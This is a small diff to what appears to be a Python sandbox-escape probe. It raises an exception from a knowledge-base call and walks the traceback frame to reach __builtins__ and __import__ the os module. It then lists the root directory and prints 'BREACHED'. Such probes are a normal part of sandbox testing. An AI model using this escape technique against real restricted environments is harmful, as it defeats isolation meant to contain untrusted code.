@@ -7,5 +7,5 @@ try:
     kb.read_excerpt(Passage(passage_id="a"))
 except ValueError as error:
     frame = error.__traceback__.tb_next.tb_frame
-os = frame.f_globals["call"].__globals__["__builtins__"]["__import__"]("os")
+os = frame.f_globals["__builtins__"]["__import__"]("os")
 print("BREACHED" if os.listdir("/") else "empty")
